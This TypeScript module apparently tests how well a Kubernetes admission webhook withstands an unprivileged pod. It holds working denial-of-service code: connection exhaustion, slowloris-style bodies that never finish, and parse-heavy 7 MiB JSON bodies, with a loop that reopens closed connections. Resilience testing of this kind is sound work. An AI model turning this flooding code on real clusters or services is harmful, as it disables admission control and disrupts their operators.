// What a pod can do to the webhook's port without any right. This machine has an address of its own in the cluster's
// network, as a pod has.
import { connect } from 'node:tls';
import type { TLSSocket } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';

const PORT = 10250;
const MIB = 1024 * 1024;
/** Handshakes at a time. */
const AT_ONCE = 50;

export interface Attack {
  /** What is sent over each of its connections. */
  readonly sends: string;
  readonly connections: number;
}

function head(length: number): string {
  return `POST /promotion/enforce HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: ${length}\r\n\r\n`;
}

/** A body of which every three bytes become an object. */
function dense(most: number): string {
  const prefix = '{"kind":"AdmissionReview","apiVersion":"admission.k8s.io/v1","request":{"uid":"x","object":{"a":[';
  const many = Math.min(most, Math.floor((7 * MIB - prefix.length - 10) / 3));
  const body = `${prefix}${'{},'.repeat(many)}{}]}}}`;
  return `${head(body.length)}${body}`;
}

export const ATTACKS = {
  'connections that were used once and are kept': {
    sends: 'GET /healthz HTTP/1.1\r\nhost: x\r\n\r\n',
    connections: 1000,
  },
  'bodies of 60 KiB that never end': { sends: `${head(MIB)}${'x'.repeat(60 * 1024)}`, connections: 1000 },
  'bodies of 7 MiB that cost most': { sends: dense(Infinity), connections: 20 },
  'bodies that cost as much as one may': { sends: dense(1_000_000), connections: 20 },
} satisfies Readonly<Record<string, Attack>>;

export interface Attacker {
  /** Connections that were opened, those that the webhook closed included. */
  readonly opened: number;
  stop(): void;
}

/** Opens the connections of an attack, and opens another one for each that is closed, until it is stopped. */
export async function attack(host: string, { sends, connections }: Attack): Promise<Attacker> {
  const sockets = new Set<TLSSocket>();
  const stopped = new AbortController();
  const attacker = { opened: 0, stop };

  async function open(): Promise<void> {
    const socket = connect({ host, port: PORT, rejectUnauthorized: false });
    const ready = new Promise<void>((resolve) => {
      socket
        .once('secureConnect', resolve)
        .once('close', resolve)
        .on('error', () => {});
    });
    attacker.opened += 1;
    sockets.add(socket);
    socket.once('close', () => sockets.delete(socket));
    await ready;
    if (!socket.destroyed) socket.resume().write(sends);
  }
  async function keepOpening(): Promise<void> {
    while (!stopped.signal.aborted) {
      if (sockets.size < connections) await open();
      else await sleep(10);
    }
  }
  function stop(): void {
    stopped.abort();
    for (const socket of sockets) socket.destroy();
  }
  for (let each = 0; each < AT_ONCE; each += 1) void keepOpening();
  while (attacker.opened < connections) await sleep(50);
  return attacker;
}
